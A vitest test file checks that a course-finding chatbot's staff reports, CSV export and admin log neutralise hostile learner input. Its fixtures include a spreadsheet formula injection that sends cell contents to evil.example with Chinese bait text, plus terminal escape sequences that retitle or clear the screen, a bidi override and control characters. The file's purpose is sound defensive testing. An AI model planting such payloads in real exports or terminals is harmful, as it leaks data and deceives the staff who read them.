import { describe, expect, it } from 'vitest'
import { parse as parseCsv } from 'csv-parse/sync'
import { openDatabase } from '../src/db/open-database.js'
import { emptySlots } from '../src/query/types.js'
import { loadPrompts } from '../src/prompts.js'
import { SqliteTurnLogStore } from '../src/staff/sqlite-turn-log-store.js'
import { buildReport } from '../src/staff/report.js'
import { renderReportCsv, renderReportText, REPORT_PROMPTS } from '../src/staff/render-report.js'
import { terminalSafe } from '../src/text/terminal-safe.js'
import { SqliteAdminStore } from '../src/staff/sqlite-admin-store.js'
import { runCli } from './fixtures/run-cli.js'
import { tempDir } from './fixtures/catalogue/helpers.js'

const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点我领补贴")'
const RETITLE = '学\x1b]0;你的电脑已被控制\x07电工'
const CLEAR = '\x1b[2J\x1b[H考证'
const BIDI = '报名\u202e费免\u202c'

/** A turn log where learners typed a formula, escape sequences and a bidi override, none of which found a project. */
async function hostileReport() {
  const db = openDatabase(':memory:')
  const now = new Date('2026-11-28T10:00:00Z')
  const log = new SqliteTurnLogStore(db, { salt: 'test-salt', now: () => now })
  const texts = [HYPERLINK, RETITLE, CLEAR, BIDI, '找\x9b31m课\x07\x00程\r\n第二行']
  for (const [i, text] of texts.entries()) await log.record({ channel: 'telegram', userId: `u${i}`, text, slots: emptySlots(), projectIds: [], matched: false })
  return buildReport(await log.since(new Date(now.getTime() - 86_400_000)), { since: now, projects: new Map([['P1', '\x1b[31m红色标题']]) })
}

describe('what learners typed, shown to staff', () => {
  it('strips escape sequences, control characters and bidi overrides, keeping the words', () => {
    expect(terminalSafe(RETITLE)).toBe('学电工')
    expect(terminalSafe(CLEAR)).toBe('考证')
    expect(terminalSafe(BIDI)).toBe('报名费免')
    expect(terminalSafe('找\x9b31m课\x07\x00程\r\n第二行')).toBe('找课程 第二行')
    expect(terminalSafe('a\x1bPq#0;1\x1b\\b\x1b7c\x7f\x85d')).toBe('abc d')
    expect(terminalSafe('普通的问题 ok?')).toBe('普通的问题 ok?')
  })

  it('prints the markdown report (terminal and /report in chat) with no control character left', async () => {
    const text = renderReportText(await hostileReport(), loadPrompts().declare('staff', REPORT_PROMPTS), 'zh')
    expect(text).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/)
    expect(text).toContain('学电工')
    expect(text).toContain('考证')
    expect(text).toContain(HYPERLINK)
  })

  it('writes report --format csv with the learner\'s formula neutralised and no control characters', async () => {
    const csv = renderReportCsv(await hostileReport())
    expect(csv).not.toMatch(/[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e]/)
    const rows = parseCsv(csv) as string[][]
    const cells = rows.flat()
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@|\t\r]/)
    expect(cells).toContain(`'${HYPERLINK}`)
  })
})

describe('what anyone typed, in the admin log', () => {
  it('prints a refused attempt\'s escape sequences stripped in `learnfinder admin log`', async () => {
    const tmp = tempDir()
    try {
      const path = tmp.file('a.db')
      const db = openDatabase(path)
      await new SqliteAdminStore(db).record({ channel: 'telegram', userId: '42', action: 'kb_show', detail: `/kb_show ${RETITLE}${CLEAR}`, allowed: false })
      db.close()
      const r = await runCli(['admin', 'log', '--db', path, '--lang', 'en'])
      expect(r.code).toBe(0)
      expect(r.out).toContain('telegram:42  REFUSED  /kb_show 学电工考证')
      expect(r.out).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f]/)
    } finally {
      tmp.cleanup()
    }
  })
})
